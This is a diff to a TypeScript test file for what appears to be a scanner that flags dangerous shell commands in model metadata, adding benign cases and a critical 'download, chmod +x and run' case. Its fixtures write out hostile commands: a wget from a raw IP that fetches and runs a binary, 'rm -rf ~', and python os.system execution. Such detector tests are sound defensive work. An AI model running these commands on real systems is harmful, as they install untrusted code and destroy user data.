@@ -25,7 +25,15 @@ const ok: Case[] = [
   { name: "a jinja template", value: metadata("{{ bos_token }}{% for m in messages %}{{ m.content }}{% endfor %}") },
   { name: "tokens are never code", value: { text: "os.system('id')", key: "vocab", role: "vocabulary" } },
   { name: "a benign Lambda", value: lambda("lambda x: x * 2.0 + 1") },
-  { name: "wget to a file", value: metadata("wget https://example.com/data.tar.gz -O data.tar.gz") },
+  {
+    name: "wget to a file",
+    value: metadata("wget https://example.com/data.tar.gz -O data.tar.gz && tar xzf data.tar.gz"),
+  },
+  {
+    name: "a job command through bash -c",
+    value: metadata('bash -c "pip install -r requirements.txt && python train.py"'),
+  },
+  { name: "chmod of a script that was not downloaded", value: metadata("chmod +x run.sh && ./run.sh --epochs 3") },
 ];
 
 const ng: Case[] = [
@@ -72,6 +80,12 @@ const ng: Case[] = [
     severity: "critical",
   },
   { name: "rm -rf home", value: metadata("rm -rf ~"), messageId: "shellDestructive", severity: "critical" },
+  {
+    name: "download, chmod +x and run",
+    value: metadata("wget -q http://203.0.113.7/agent -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent"),
+    messageId: "shellDownloadExecute",
+    severity: "critical",
+  },
   {
     name: "python -c with os.system",
     value: metadata("python3 -c \"import os; os.system('id')\""),
